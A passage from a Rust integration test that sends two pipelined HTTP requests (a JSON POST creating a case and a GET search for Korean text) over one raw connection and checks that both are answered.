        // Two requests on one connection, a body between them: both answered.
        let body = serde_json::to_string(&grievance("두 번째 요청")).unwrap();
        let twice = format!(
            "POST /api/v1/cases HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}\
             GET /api/v1/cases?q=요청 HTTP/1.1\r\nHost: x\r\n{auth}Connection: close\r\n\r\n",
            body.len()
        );
        let both = raw_http(app, twice.into_bytes()).await;
        assert!(both.starts_with("HTTP/1.1 201"), "{both}");
        assert!(both.matches("HTTP/1.1 200").count() == 1 && both.contains("두 번째 요청"), "{both}");
    }
}
